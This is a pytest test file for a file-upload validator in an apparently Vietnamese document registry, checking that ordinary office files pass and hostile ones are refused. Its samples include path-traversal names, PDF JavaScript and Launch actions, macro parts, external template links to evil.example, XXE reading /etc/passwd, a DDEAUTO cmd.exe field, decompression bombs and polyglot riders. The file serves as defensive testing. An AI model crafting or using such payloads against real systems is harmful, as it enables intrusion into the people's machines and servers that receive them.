"""The gate: what passes, and each hostile file with the reason it is told."""

import io
import struct
import zipfile
import zlib

import pytest
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from registry.gate import MEDIA_TYPES, check, check_name
from tests.registry.files import docx, part, pdf, picture, repacked, upload, xlsx, zipped
from toolbox.errors import Refused

RELS = "word/_rels/document.xml.rels"


@pytest.mark.parametrize(
    ("content", "name", "extension", "pages"),
    [
        (pdf(3), "Chương trình hành động.pdf", "pdf", 3),
        (pdf(1), "15-KH.UBND", "pdf", 1),
        (docx(), "Dự thảo lần 2.DOCX", "docx", None),
        (xlsx(), "chỉ tiêu.xlsx", "xlsx", None),
        (picture("PNG"), "ảnh.png", "png", 1),
        (picture("JPEG"), "biên bản.jpeg", "jpg", 1),
        (picture("PNG"), "IMG_0001.jpg", "png", 1),  # telephones name pictures at random
    ],
)
def test_what_offices_send_passes(content, name, extension, pages):
    file = upload(content, name)
    checked = check(file)
    assert (checked.extension, checked.media_type, checked.pages) == (
        extension,
        MEDIA_TYPES[extension],
        pages,
    )
    assert file.tell() == 0


def refused(content: bytes, name: str = "tệp") -> str:
    with pytest.raises(Refused) as refusal:
        check(upload(content, name))
    return str(refusal.value)


# Names


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "/etc/x.pdf",
        "a\\b.pdf",
        "x\u202efdp.exe",
        "x\x00.pdf",
        "con.pdf",
        "AUX",
        ".htaccess",
        "",
        "a" * 201 + ".pdf",
        "ẵ" * 100 + ".pdf",
        "tệp\u200b.pdf",
        "c:x.pdf",
        "a\r\nb.pdf",
    ],
)
def test_names_that_lead_elsewhere_or_deceive(name):
    with pytest.raises(Refused):
        check_name(name)


@pytest.mark.parametrize("name", ["x.pdf.exe", "x.docx", "x.html", "x.pdf.js"])
def test_a_name_may_not_contradict_the_content(name):
    assert "nhưng nội dung là .pdf" in refused(pdf(), name)


def test_decomposed_names_are_composed():
    assert check_name("Que\u0302\u0301.pdf") == "Quế.pdf"


# Not on the list, whatever the name


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "Tệp rỗng"),
        (b"MZ\x90\x00" + b"\x00" * 200, "chương trình chạy được"),
        (b"\x7fELF" + b"\x00" * 200, "chương trình chạy được"),
        (b"#!/bin/sh\n", "chương trình chạy được"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "SVG"),
        (b"\xef\xbb\xbf <!DOCTYPE html><script>x</script>", "trang web"),
        (b"GIF89a" + b"<script>", "trang web"),
        (b"GIF89a" + b"\x00" * 50, "Chỉ nhận PDF"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "đời cũ"),
        (b"Rar!\x1a\x07\x00", "Chỉ nhận PDF"),
        (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR", "Chỉ nhận PDF"),
        ("Nghị quyết".encode("latin-1", "replace"), "Chỉ nhận PDF"),
    ],
)
def test_other_formats_named_pdf(content, reason):
    assert reason in refused(content, "nghị quyết.pdf")


def test_too_heavy(settings):
    settings.FILE_MAX_BYTES = 500
    assert "quá mức" in refused(pdf() + b" " * 600)


# PDF


def test_too_many_pages(settings):
    settings.FILE_MAX_PAGES = 4
    assert "5 trang" in refused(pdf(5))


def _open_action(writer):
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )


def _page_action(writer):
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x()")}
    )
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(script)})


def _launch(writer):
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    link = DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action})
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])


@pytest.mark.parametrize(
    "shape",
    [
        _page_action,
        _open_action,
        _launch,
        lambda writer: writer.add_attachment("x.exe", b"MZ"),
    ],
)
def test_active_content(shape):
    assert "mã lệnh hoặc tệp nhúng" in refused(pdf(shape=shape))


def test_active_content_packed_in_an_object_stream():
    """Objects in a compressed stream show no word in the raw bytes."""
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    packed = zlib.compress(b"4 0 " + script)
    body, offsets = b"%PDF-1.5\n", {}
    for number, text in (
        (1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"),
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>"),
        (
            5,
            b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
            % (len(packed), packed),
        ),
    ):
        offsets[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    rows = (
        [(0, 0, 255)]
        + [(1, offsets[n], 0) for n in (1, 2, 3)]
        + [(2, 5, 0), (1, offsets[5], 0), (1, len(body), 0)]
    )
    table = b"".join(struct.pack(">BHB", *row) for row in rows)
    end = (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R /Length %d >>\n"
        b"stream\n%s\nendstream\nendobj\n" % (len(table), table)
    )
    hostile = body + end + b"startxref\n%d\n%%%%EOF\n" % len(body)
    assert b"JavaScript" not in hostile
    assert "mã lệnh" in refused(hostile)


def test_a_disguised_word_is_read_through():
    hostile = pdf(shape=_open_action).replace(b"/JavaScript", b"/J#61vaScript")
    assert "mã lệnh" in refused(hostile)


def test_a_locked_pdf():
    assert "khóa" in refused(pdf(shape=lambda writer: writer.encrypt("x", algorithm="RC4-128")))


@pytest.mark.parametrize(
    "hostile",
    [
        b"GIF89a" + pdf(),
        b"\n" + pdf(),
        pdf() + zipped(**{"a.txt": b"x"}),
        pdf() + b"<html><script>alert(1)</script>",
        pdf()[: len(pdf()) // 2],
        b"%PDF-1.7\nkhong phai pdf\n%%EOF\n",
        b"%PDF-1.7\n%%EOF",
    ],
)
def test_a_pdf_that_is_not_alone_or_not_whole(hostile):
    assert refused(hostile)


# Word and Excel


def test_a_zip_is_no_document():
    assert "(.zip)" in refused(zipped(**{"a.txt": b"x"}))


@pytest.mark.parametrize(
    "name",
    [
        "word/vbaProject.bin",
        "word/vbaData.xml",
        "word/activeX/activeX1.xml",
        "word/embeddings/oleObject1.bin",
        "word/embeddings/x.exe",
    ],
)
def test_macros_and_objects(name):
    assert "macro" in refused(repacked(docx(), {name: b"<x/>"}), "x.docx")


def test_a_docm_renamed_docx():
    types = part(docx(), "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert "macro" in refused(repacked(docx(), {"[Content_Types].xml": types}), "x.docx")


def test_excel_four_macros():
    assert "macro" in refused(repacked(xlsx(), {"xl/macrosheets/sheet1.xml": b"<x/>"}), "x.xlsx")


@pytest.mark.parametrize(
    "name", ["META-INF/MANIFEST.MF", "x.class", "word/page.html", "word/afchunk.mht", "xl/x.xml"]
)
def test_parts_that_no_word_file_has(name):
    assert "phần lạ" in refused(repacked(docx(), {name: b"x"}), "x.docx")


def _tied(target: bytes, type_: bytes) -> bytes:
    rels = part(docx(), RELS).replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
        b'Target="%s" TargetMode="External"/></Relationships>' % (type_, target),
    )
    return repacked(docx(), {RELS: rels})


@pytest.mark.parametrize(
    ("target", "type_"),
    [
        (b"http://evil.example/t.dotm", b"attachedTemplate"),
        (b"https://evil.example/x.png", b"image"),
        (b"file:///c:/windows/x.exe", b"hyperlink"),
        (b"\\\\server\\share", b"hyperlink"),
        (b"javascript:alert(1)", b"hyperlink"),
        (b"x.docx", b"oleObject"),
    ],
)
def test_ties_to_other_files(target, type_):
    assert "liên kết tới tệp khác" in refused(_tied(target, type_), "x.docx")


def test_a_link_to_a_web_page_is_no_tie():
    assert check(upload(_tied(b"https://dienbien.gov.vn/", b"hyperlink"), "x.docx")).extension == "docx"


@pytest.mark.parametrize(
    "head",
    [b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', b'<!DOCTYPE x [<!ENTITY a "aaaa">]>'],
)
def test_entities(head):
    xml = part(docx(), "word/document.xml")
    hostile = xml.replace(b"?>", b"?>" + head, 1)
    assert "DOCTYPE" in refused(repacked(docx(), {"word/document.xml": hostile}), "x.docx")


def test_entities_hidden_in_another_encoding():
    hostile = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x><x/>'.encode("utf-16")
    assert "DOCTYPE" in refused(repacked(docx(), {"word/styles.xml": hostile}), "x.docx")
    hostile = b'<?xml version="1.0" encoding="UTF-7"?>+ADw-+ACE-DOCTYPE x+AD4-'
    assert "DOCTYPE" in refused(repacked(docx(), {"word/styles.xml": hostile}), "x.docx")


def test_fields_that_fetch_split_over_runs():
    word = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    xml = part(docx(), "word/document.xml").replace(
        b"<w:sectPr",
        b'<w:p %s><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r>'
        b"<w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:r>"
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:sectPr' % word,
        1,
    )
    assert "trường tự lấy" in refused(repacked(docx(), {"word/document.xml": xml}), "x.docx")


def test_a_bomb_is_not_unpacked():
    assert "quá lớn" in refused(
        repacked(docx(), {"word/big.xml": b"<x>" + b" " * 40_000_000 + b"</x>"}), "x.docx"
    )


def test_overlapping_parts():
    """Two entries over the same bytes: the flat bomb's trick."""
    plain = io.BytesIO()
    with zipfile.ZipFile(plain, "w", zipfile.ZIP_STORED) as package:
        package.writestr("[Content_Types].xml", b"<x/>" * 2000)
        package.writestr("word/a.xml", b"<x/>")
        package.filelist.extend([package.filelist[0]] * 3)
    assert refused(plain.getvalue(), "x.docx")


@pytest.mark.parametrize(
    "hostile",
    [
        lambda sound: b"PK\x03\x04" + b"\x00" * 40 + sound,
        lambda sound: zipped(**{"a.txt": b"x"}) + sound,
        lambda sound: sound + b"<script>",
        lambda sound: sound + pdf(),
        lambda sound: sound[:-40],
        lambda sound: sound[:2000],
    ],
)
def test_a_package_that_is_not_alone_or_not_whole(hostile):
    assert refused(hostile(docx()), "x.docx")


def test_a_broken_part():
    assert "hỏng" in refused(repacked(docx(), {"word/document.xml": b"<w:document"}), "x.docx")


@pytest.mark.parametrize("name", ["word/../../x.xml", "/word/x.xml", "word\\x.xml", "WORD/DOCUMENT.XML"])
def test_part_names_that_leave_the_package_or_meet_twice(name):
    assert refused(repacked(docx(), {name: b"<x/>"}), "x.docx")


# Pictures


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_a_decompression_bomb_is_not_unpacked():
    """109 kB that unpack to 900 million pixels, and the size Pillow only warns of."""
    for side in (30_000, 13_000):
        row = zlib.compress(b"\x00" * (side // 8 + 1), 9)

        def chunk(kind, body):
            return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

        header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
        bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", row) + chunk(b"IEND", b"")
        assert "quá" in refused(bomb, "x.png")


@pytest.mark.parametrize(
    "hostile",
    [
        picture("PNG") + b"<script>",
        picture("PNG") + zipped(a=b"x"),
        picture("JPEG") + zipped(a=b"x"),
        picture("JPEG") + b"%PDF-1.4",
        picture("JPEG") + b"<?php system($x) ?>",
        picture("PNG")[:40],
        picture("JPEG")[:200],
        b"\xff\xd8\xff\xe0" + b"\x00" * 90,
    ],
)
def test_pictures_with_riders_or_cut(hostile):
    assert "Ảnh" in refused(hostile, "x")
